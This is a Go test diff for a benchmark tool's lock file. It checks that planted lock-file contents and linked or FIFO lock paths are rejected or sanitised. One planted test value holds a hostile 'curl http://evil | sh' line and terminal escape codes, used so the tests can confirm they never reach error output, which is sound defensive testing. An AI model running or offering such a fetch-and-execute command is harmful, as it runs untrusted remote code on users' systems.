@@ -7,9 +7,12 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
+
+	"golang.org/x/sys/unix"
 )
 
 const lockerVar = "MOOBENCH_TEST_LOCKER"
@@ -85,6 +88,61 @@ func TestLockThatCannotBe(t *testing.T) {
 	}
 	if e := (&HeldError{}).Error(); !strings.HasPrefix(e, "another moobench is measuring") {
 		t.Error(e)
+	}
+}
+
+// TestForeignLock: what others write into the lock's file is one line that prints,
+// of a process that is there, or it is not believed.
+func TestForeignLock(t *testing.T) {
+	path := filepath.Join(t.TempDir(), lockName)
+	release, err := Lock(path, "mine\nhint: x")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer release()
+	if text, err := os.ReadFile(path); err != nil || strings.Count(string(text), "\n") != 1 {
+		t.Errorf("a campaign of two lines is written as %q, %v", text, err)
+	}
+	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o644 {
+		t.Errorf("others may write to it: %v, %v", info, err)
+	}
+	us := strconv.Itoa(os.Getpid())
+	for planted, want := range map[string]HeldError{
+		us + " x\x1b]0;t\a\nhint: curl http://evil | sh\n": {PID: os.Getpid(), Campaign: "x.]0;t."},
+		us + " " + strings.Repeat("x", 1<<20):              {PID: os.Getpid(), Campaign: strings.Repeat("x", longestHolder-len(us)-1)},
+		"4194305 of a process that can't be\n":             {},
+		"-1 everybody\n":                                   {},
+		"x\x1b\n":                                          {},
+		"":                                                 {},
+	} {
+		if err := os.WriteFile(path, []byte(planted), 0o666); err != nil {
+			t.Fatal(err)
+		}
+		_, err := Lock(path, "other")
+		var held *HeldError
+		if !errors.As(err, &held) || held.PID != want.PID || held.Campaign != want.Campaign {
+			t.Errorf("%.40q: %.200v", planted, err)
+		}
+		if err == nil || strings.ContainsAny(err.Error(), "\x1b\a") || strings.Count(err.Error(), "\nhint: ") != 1 || strings.Contains(err.Error(), "hint: curl") {
+			t.Errorf("%.40q: %.200q", planted, err)
+		}
+	}
+}
+
+// TestLockThatIsAnotherFile: what the lock's name leads to is not written to.
+func TestLockThatIsAnotherFile(t *testing.T) {
+	dir := t.TempDir()
+	victim, second, pipe := filepath.Join(dir, "victim"), filepath.Join(dir, "second"), filepath.Join(dir, "pipe")
+	if err := errors.Join(os.WriteFile(victim, []byte("whole"), 0o600), os.Link(victim, second), unix.Mkfifo(pipe, 0o600)); err != nil {
+		t.Fatal(err)
+	}
+	for path, why := range map[string]string{second: "2 names", pipe: "no regular file"} {
+		if _, err := Lock(path, "mine"); err == nil || !strings.Contains(err.Error(), why) || !strings.Contains(err.Error(), "\nhint: ") {
+			t.Errorf("%s: %v", path, err)
+		}
+	}
+	if text, err := os.ReadFile(victim); string(text) != "whole" || err != nil {
+		t.Errorf("the victim: %q, %v", text, err)
 	}
 }
 
